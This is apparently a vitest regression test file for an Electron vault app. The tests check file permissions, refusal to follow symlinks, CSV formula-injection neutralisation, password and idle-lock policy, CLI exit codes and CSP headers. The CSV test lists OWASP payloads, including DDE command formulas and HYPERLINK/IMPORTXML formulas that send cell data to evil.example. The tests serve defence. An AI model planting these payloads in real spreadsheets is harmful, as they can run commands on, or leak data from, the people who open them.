/**
 * Issue 13, part 1: the findings of the security probe that are fixed outright. Each test
 * reproduces the attack or the weakness and shows it refused now.
 */
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { checkPassword } from '../../shared/auth/passwordPolicy';
import { silentLogger } from '../../electron/core/log';
import { newClientState } from '../../electron/core/session';
import { neutraliseCell } from '../../electron/core/stats/csv';
import { backupVault, exportDecrypted } from '../../electron/core/vault/backup';
import { createExclusive, isDiskFull, writeAtomic, writeAtomicWith } from '../../electron/core/vault/safeFile';
import type { Vault } from '../../electron/core/vault/vault';
import { startDevServer } from '../../electron/dev-server/server';
import { devToolsAllowed, processGoneAction } from '../../electron/main/policy';
import { CSP_HEADER } from '../../electron/main/policy';
import { cli } from '../fixtures/cli';
import { ADMIN, createdVault, signedInCore, tempDir } from '../fixtures/vaults';

const opened: Vault[] = [];
afterEach(() => {
  for (const v of opened.splice(0)) v.lock('shutdown');
});
const mode = (path: string) => statSync(path).mode & 0o777;
const posix = process.platform !== 'win32';

async function unlockedVault() {
  const made = await createdVault();
  await made.vault.unlock(ADMIN.username, ADMIN.password);
  opened.push(made.vault);
  return made;
}

describe('files are owner-only', () => {
  it.runIf(posix)('database, WAL, SHM, keyring, backups and exports are 0600 whatever the umask', async () => {
    const old = process.umask(0o022);
    try {
      const { vault, dir } = await unlockedVault();
      vault.database.prepare("INSERT INTO settings (key, value) VALUES ('probe', '1')").run();
      for (const file of [vault.paths.db, `${vault.paths.db}-wal`, `${vault.paths.db}-shm`, vault.paths.keyring]) {
        expect(existsSync(file), file).toBe(true);
        expect(mode(file), file).toBe(0o600);
      }
      const backup = join(dir, 'out', 'b.kbak');
      backupVault(vault, backup, null);
      expect(mode(backup)).toBe(0o600);
      const exported = join(dir, 'export.json');
      exportDecrypted(vault.database, exported, { id: 'x', username: ADMIN.username });
      expect(mode(exported)).toBe(0o600);
    } finally {
      process.umask(old);
    }
  });

  it.runIf(posix)('a vault made before (0644 files) is tightened when it is opened', async () => {
    const { vault } = await createdVault();
    const { chmodSync } = await import('node:fs');
    chmodSync(vault.paths.db, 0o644);
    chmodSync(vault.paths.keyring, 0o644);
    await vault.unlock(ADMIN.username, ADMIN.password);
    opened.push(vault);
    expect(mode(vault.paths.db)).toBe(0o600);
    expect(mode(vault.paths.keyring)).toBe(0o600);
  });
});

describe('temporary files are created exclusively and never followed', () => {
  it.runIf(posix)('export --decrypted no longer writes through a link planted at OUT.partial', async () => {
    const { vault, dir } = await unlockedVault();
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'do not touch');
    const out = join(dir, 'export.json');
    // The old code opened `${out}.partial` with 'w': it followed this link and overwrote the victim.
    symlinkSync(victim, `${out}.partial`);
    exportDecrypted(vault.database, out, { id: 'x', username: ADMIN.username });
    expect(readFileSync(victim, 'utf8')).toBe('do not touch');
    expect(lstatSync(out).isSymbolicLink()).toBe(false);
    expect(JSON.parse(readFileSync(out, 'utf8')).format).toBe('kalkan-export');
  });

  it.runIf(posix)('a backup does not write through a link planted at OUT.partial either', async () => {
    const { vault, dir } = await unlockedVault();
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'do not touch');
    const out = join(dir, 'b.kbak');
    symlinkSync(victim, `${out}.partial`);
    backupVault(vault, out, null);
    expect(readFileSync(victim, 'utf8')).toBe('do not touch');
    expect(lstatSync(out).isFile()).toBe(true);
  });

  it.runIf(posix)('exclusive creation refuses an existing file or link (dangling too) and leaves its target alone', () => {
    const dir = tempDir();
    const victim = join(dir, 'victim');
    writeFileSync(victim, 'x');
    symlinkSync(victim, join(dir, 'link'));
    symlinkSync(join(dir, 'nowhere'), join(dir, 'dangling'));
    for (const name of ['victim', 'link', 'dangling']) expect(() => createExclusive(join(dir, name)), name).toThrow(/EEXIST/);
    expect(existsSync(join(dir, 'nowhere'))).toBe(false);
    expect(readFileSync(victim, 'utf8')).toBe('x');
  });

  it('an atomic write replaces the target only when complete; a full disk says so and leaves nothing', () => {
    const dir = tempDir();
    const target = join(dir, 'file.txt');
    writeAtomic(target, 'first');
    expect(() => writeAtomic(target, 'second')).toThrow(expect.objectContaining({ code: 'file.exists' }));
    writeAtomic(target, 'second', { overwrite: true });
    expect(readFileSync(target, 'utf8')).toBe('second');
    const full = Object.assign(new Error('no space'), { code: 'ENOSPC' });
    expect(isDiskFull(full)).toBe(true);
    expect(() =>
      writeAtomicWith(
        target,
        () => {
          throw full;
        },
        { overwrite: true },
      ),
    ).toThrow(expect.objectContaining({ code: 'disk.full' }));
    expect(readFileSync(target, 'utf8')).toBe('second');
    expect(readdirSync(dir)).toEqual(['file.txt']);
  });
});

describe('CSV formula injection (OWASP payloads)', () => {
  const payloads = [
    '=cmd|\' /C calc\'!A0',
    '=HYPERLINK("http://evil.example/?x="&A1,"Tıklayın")',
    '+cmd|\' /C calc\'!A0',
    '-cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '-1+1+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\'/C calc\'!\'A0\'',
    '=10+20+cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '   =1+1',
    '\u00A0=1+1',
    '\u00A0 +1+1',
    '＝1+1',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
    '@@SUM(1)',
  ];
  it('prefixes every payload with an apostrophe', () => {
    for (const p of payloads) expect(neutraliseCell(p), JSON.stringify(p)).toBe(`'${p}`);
  });
  it('leaves ordinary text and plain numbers alone', () => {
    for (const text of ['Beyoğlu İlçe Milli Eğitim', '-3', '12,5', '0', 'a=b', 'Ayşe - Mehmet', '—']) expect(neutraliseCell(text)).toBe(text);
  });
});

describe('policy', () => {
  it('passwords over 100 characters are checked too (no bypass by length)', () => {
    expect(checkPassword('a'.repeat(101)).ok).toBe(false);
    expect(checkPassword('ab'.repeat(60)).problems).toContain('tooWeak');
    expect(checkPassword('1234567890'.repeat(20)).ok).toBe(false);
    const strong = 'kırmızı-balon-uzağa-uçar-ve-mavi-kedi-sabah-çayını-içerken-yaşlı-çınarın-altında-martılar-simit-kapar-kadıköy';
    expect([...strong].length).toBeGreaterThan(100);
    expect(checkPassword(strong).ok).toBe(true);
  });

  it('the idle lock is between 1 and 60 minutes', async () => {
    const { core, admin } = await signedInCore();
    for (const minutes of [0, 61, 240]) {
      expect(await core.router.handle(admin, 'security.setIdleMinutes', { minutes })).toMatchObject({ ok: false, error: { code: 'api.invalidInput' } });
    }
    expect(await core.router.handle(admin, 'security.setIdleMinutes', { minutes: 60 })).toEqual({ ok: true, value: { idleMinutes: 60 } });
    // A value stored by an older version (0 = never) falls back to the default instead of turning the lock off.
    core.services.vault.database.prepare("UPDATE settings SET value = '0' WHERE key = 'idleMinutes'").run();
    expect(((await core.call(admin, 'auth.session')) as { idleMinutes: number }).idleMinutes).toBe(10);
    await core.call(admin, 'auth.signOut');
    expect(newClientState().session).toBeNull();
  });
});

describe('exit codes', () => {
  const PW = 'mavi-kedi-sabah-çayı-içer';
  async function initVault() {
    const dir = tempDir('kalkan-exit-');
    const db = join(dir, 'ofis.db');
    expect((await cli(['init', '--db', db, '--admin', 'yonetici'], { KALKAN_PASSWORD: PW })).code).toBe(0);
    return { dir, db };
  }

  it('a keyring with impossible KDF parameters is exit 5 with what to do (it used to crash as exit 1)', async () => {
    const { db } = await initVault();
    const keyring = JSON.parse(readFileSync(`${db}.keyring`, 'utf8'));
    keyring.entries[0].kdf.N = 3;
    writeFileSync(`${db}.keyring`, JSON.stringify(keyring));
    const run = await cli(['verify', '--db', db, '--user', 'yonetici', '--lang', 'en'], { KALKAN_PASSWORD: PW });
    expect(run.code).toBe(5);
    expect(run.err).toContain('Put the keyring back from a backup');
    keyring.entries[0].kdf.N = 2 ** 30;
    writeFileSync(`${db}.keyring`, JSON.stringify(keyring));
    expect((await cli(['verify', '--db', db, '--user', 'yonetici'], { KALKAN_PASSWORD: PW })).code).toBe(5);
  }, 30_000);

  it('a missing database or keyring is exit 5 with what to do', async () => {
    const { dir, db } = await initVault();
    const { renameSync } = await import('node:fs');
    renameSync(db, join(dir, 'moved.db'));
    const noDb = await cli(['verify', '--db', db, '--user', 'yonetici', '--lang', 'en'], { KALKAN_PASSWORD: PW });
    expect(noDb.code).toBe(5);
    expect(noDb.err).toContain('restore the database from a backup');
    renameSync(join(dir, 'moved.db'), db);
    renameSync(`${db}.keyring`, join(dir, 'moved.keyring'));
    const noKeyring = await cli(['verify', '--db', db, '--user', 'yonetici', '--lang', 'en'], { KALKAN_PASSWORD: PW });
    expect(noKeyring.code).toBe(5);
    expect(noKeyring.err).toContain('recovery key');
    const nothing = await cli(['verify', '--db', join(dir, 'none.db'), '--user', 'yonetici'], { KALKAN_PASSWORD: PW });
    expect(nothing.code).toBe(5);
  }, 30_000);
});

describe('Electron shell and harness', () => {
  it('locks and offers a reload when the renderer or a child process dies, not on a clean exit', () => {
    expect(processGoneAction('renderer', { reason: 'crashed' })).toEqual({ lock: true, offerReload: true });
    expect(processGoneAction('renderer', { reason: 'killed' })).toEqual({ lock: true, offerReload: true });
    expect(processGoneAction('child', { reason: 'oom', type: 'Utility' })).toEqual({ lock: true, offerReload: true });
    expect(processGoneAction('child', { reason: 'crashed', type: 'GPU' })).toEqual({ lock: false, offerReload: false });
    expect(processGoneAction('child', { reason: 'clean-exit', type: 'Utility' })).toEqual({ lock: false, offerReload: false });
    expect(devToolsAllowed(true)).toBe(false);
    expect(devToolsAllowed(false)).toBe(true);
  });

  it('the packaged build sets the fuse grantFileProtocolExtraPrivileges: false', () => {
    const yml = readFileSync(join(__dirname, '../../electron-builder.yml'), 'utf8');
    expect(yml).toMatch(/electronFuses:[\s\S]*\n {2}grantFileProtocolExtraPrivileges: false/);
  });

  it('the harness sends the app CSP header and answers a malformed URL with 400', async () => {
    const staticDir = tempDir('kalkan-static-');
    mkdirSync(join(staticDir, 'assets'));
    writeFileSync(join(staticDir, 'index.html'), '<html><head></head><body></body></html>');
    writeFileSync(join(staticDir, 'assets', 'a.js'), 'void 0;');
    const server = await startDevServer({ dataDir: tempDir('kalkan-dev-'), log: silentLogger, staticDir });
    const get = (path: string) =>
      new Promise<{ status: number; csp: string | undefined }>((resolve, reject) => {
        const req = request(new URL(server.url), { path, method: 'GET' }, (res) => {
          res.resume();
          res.on('end', () => resolve({ status: res.statusCode ?? 0, csp: res.headers['content-security-policy'] as string | undefined }));
        });
        req.on('error', reject);
        req.end();
      });
    try {
      expect(await get('/')).toEqual({ status: 200, csp: CSP_HEADER });
      expect(await get('/assets/a.js')).toEqual({ status: 200, csp: CSP_HEADER });
      for (const bad of ['/%E0%A4%A', '/assets/%', '/%00', '/__kalkan/%ZZ']) expect((await get(bad)).status, bad).toBe(400);
    } finally {
      await server.close();
    }
  });
});
